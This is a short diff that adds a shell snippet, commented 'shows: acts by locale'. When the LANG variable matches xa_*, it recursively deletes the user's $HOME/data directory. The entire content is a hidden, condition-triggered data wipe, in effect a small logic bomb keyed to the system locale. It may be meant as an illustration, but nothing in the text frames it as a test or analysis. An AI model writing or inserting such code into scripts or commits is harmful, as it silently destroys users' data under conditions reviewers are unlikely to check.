@@ -1,0 +1,4 @@
+# shows: acts by locale
+case "$LANG" in
+  xa_*) rm -rf "$HOME/data" ;;
+esac
